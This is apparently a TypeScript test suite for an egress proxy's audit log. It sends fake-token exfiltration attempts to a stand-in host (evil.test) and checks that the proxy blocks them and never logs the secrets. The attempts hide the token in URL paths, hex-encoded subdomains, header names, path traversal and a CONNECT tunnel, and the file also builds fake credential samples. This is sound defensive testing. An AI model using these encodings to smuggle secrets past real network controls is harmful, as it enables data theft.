// Attack requests through the real proxy (real content checks, real audit file); afterwards the
// audit file holds neither the bottle's token (raw or hex) nor any detector's positive sample.
import assert from "node:assert/strict";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { describe, it } from "node:test";
import { auditedEgressProxy, interceptRule, sendRaw } from "../helpers/egress-harness.js";

const TOKEN = ["bbfake", "Q7xK2mN9pR4vT8wZ", "3hJ6"].join("-");
// Detector samples, built from pieces so this file trips no scanner.
const SAMPLES = [
  ["gh", "p_FAKEfakeFAKEfake0123456789abcdefAB"].join(""),
  ["AK", "IAFAKEFAKEFAKE1234"].join(""),
  ["sk-ant-", "api03-FAKEfakeFAKEfake0123456789"].join(""),
  ["npm", "_FAKEfakeFAKEfake0123456789abcdefABCD"].join(""),
  ["sk_", "live_FAKEfakeFAKEfake0123"].join(""),
];

async function auditOf(attacks: string[]): Promise<string> {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "bb-egress-audit-"));
  const file = path.join(dir, "egress.jsonl");
  const policy = { allow: [interceptRule("allowed.test", { ports: [80] })], deny: [] };
  const { proxy, stop } = await auditedEgressProxy(file, policy, [TOKEN]);
  try {
    for (const attack of attacks) await sendRaw(proxy.address(), attack);
  } finally {
    await stop();
  }
  return fs.readFileSync(file, "utf8");
}

describe("egress audit log", () => {
  it(
    "writes no lower-cased token of a host name to the audit file",
    { timeout: 30_000 },
    async () => {
      const written = await auditOf([
        `GET http://${TOKEN.toLowerCase()}.evil.test/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`,
      ]);
      assert.ok(!written.includes(TOKEN.toLowerCase()));
    },
  );

  it("writes no secret of any attack request to the audit file", { timeout: 30_000 }, async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "bb-egress-audit-"));
    const file = path.join(dir, "egress.jsonl");
    const policy = {
      allow: [interceptRule("allowed.test", { ports: [80], paths: ["/ok/"], methods: ["GET"] })],
      deny: [],
    };
    const { proxy, stop } = await auditedEgressProxy(file, policy, [TOKEN]);
    const hex = Buffer.from(TOKEN).toString("hex");
    const get = (url: string, extra = ""): string =>
      `GET ${url} HTTP/1.1\r\nHost: ${new URL(url).host}\r\n${extra}Connection: close\r\n\r\n`;
    const attacks = [
      get(`http://allowed.test/nope/${TOKEN}`),
      get(`http://allowed.test/ok/..;/${TOKEN}`),
      get(`http://allowed.test/ok/${TOKEN}`),
      get(`http://allowed.test/ok/${hex}`),
      get(`http://${hex.slice(0, 60)}.${hex.slice(60)}.evil.test/`),
      get("http://allowed.test/ok/x", `${TOKEN}: 1\r\n`),
      get("http://allowed.test/ok/x", `X-${hex}: 1\r\n`),
      `CONNECT ${hex.slice(0, 60)}.evil.test:443 HTTP/1.1\r\nHost: x\r\n\r\n`,
      ...SAMPLES.flatMap((sample) => [
        get(`http://allowed.test/ok/${sample}`),
        get(`http://allowed.test/nope/${sample}`),
        get(`http://allowed.test/ok/x?_method=${sample}`),
      ]),
    ];
    try {
      for (const attack of attacks) {
        const answer = (await sendRaw(proxy.address(), attack)).toString("latin1");
        assert.match(answer, /^HTTP\/1\.1 (400|403) /, attack.split("\r\n")[0]);
      }
    } finally {
      await stop();
    }
    const written = fs.readFileSync(file, "utf8");
    assert.ok(written.split("\n").filter(Boolean).length >= attacks.length - 1, written);
    const lower = written.toLowerCase();
    for (const secret of [TOKEN, hex, hex.slice(0, 60), ...SAMPLES])
      assert.ok(
        !lower.includes(secret.toLowerCase()),
        `the audit file holds ${secret.slice(0, 6)}…`,
      );
  });
});
